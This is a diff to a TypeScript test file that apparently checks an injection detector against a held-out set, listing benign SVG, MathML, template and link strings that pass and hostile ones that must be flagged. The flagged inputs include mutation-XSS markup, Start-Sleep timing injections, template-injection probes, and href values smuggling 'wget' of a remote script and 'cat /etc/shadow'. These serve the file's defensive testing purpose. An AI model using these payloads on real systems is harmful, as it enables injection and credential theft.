@@ -353,3 +353,41 @@ describe("classes from held-out set E", () => {
       expect((yield* json(JSON.stringify({ note: "\nwhoami" }))).isThreat).toBe(true)
     }))
 })
+
+/** Classes set F's dev half showed, written from their own variants, not its lines. */
+describe("classes from held-out set F", () => {
+  it.effect("passes a closed SVG icon or MathML formula; an island left open or holding more than a picture still counts", () =>
+    expectVerdicts(
+      [
+        "<svg viewBox=\"0 0 24 24\" width=\"16\"><path d=\"M12 2 2 7l10 5 10-5z\"/><circle cx=\"12\" cy=\"18\" r=\"2\"/></svg>",
+        "<svg><use xlink:href=\"#icon-cart\"></use></svg> Cart (2)",
+        "<math><mfrac><mn>1</mn><msqrt><mi>x</mi></msqrt></mfrac></math> is the answer",
+        "<svg><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient><text x=\"4\">Sale</text></svg>"
+      ],
+      [
+        "<math><mtext><table><mglyph><style><!--</style>",
+        "<svg><p><style><a title=\"</style>\">",
+        "<svg><a xlink:href=\"https://login.example.net/\"><text>Sign in</text></a></svg>",
+        "<svg><image href=\"https://203.0.113.9/x.svg\"/></svg>",
+        "<math display=\"block\"><mi>x</mi>"
+      ]
+    ))
+
+  it.effect("refuses PowerShell's Start-Sleep after a separator, as sleep; a sentence naming the cmdlet passes", () =>
+    expectVerdicts(
+      ["Use Start-Sleep -Seconds 2 between retries", "bedtime; start-sleep routine for toddlers"],
+      ["7; Start-Sleep -Milliseconds 9000", "id|start-sleep 20"]
+    ))
+
+  it.effect("refuses a template expression that computes on numbers through a filter or a printing tag; filters on variables pass", () =>
+    expectVerdicts(
+      ["{{ price | times: 2 }}", "{{ value|add:\"2\" }}", "{math equation=\"x*y\" x=3 y=4}", "{% raw %}{{ name }}{% endraw %}"],
+      ["{{ 3 | plus: 4 }}", "{{12|add:\"30\"}}", "{%- print 6*6 -%}", "{math equation=\"9+9\"}"]
+    ))
+
+  it.effect("passes an HTML link whose query has a flag named like a command; a command in a link with a shell's own characters still counts", () =>
+    expectVerdicts(
+      ["<a href=\"/search?q=boots&amp;sort\">next page</a>", "see <a href='/docs?v=2&more'>the docs</a>", "<img src=\"/thumb?w=3&head\">"],
+      ["<a href=\"/files?name=a;id\">x</a>", "x\" href=\"/a?b=1&wget http://203.0.113.9/x.sh\">", "<a href=\"/a\">b</a>&&cat /etc/shadow"]
+    ))
+})
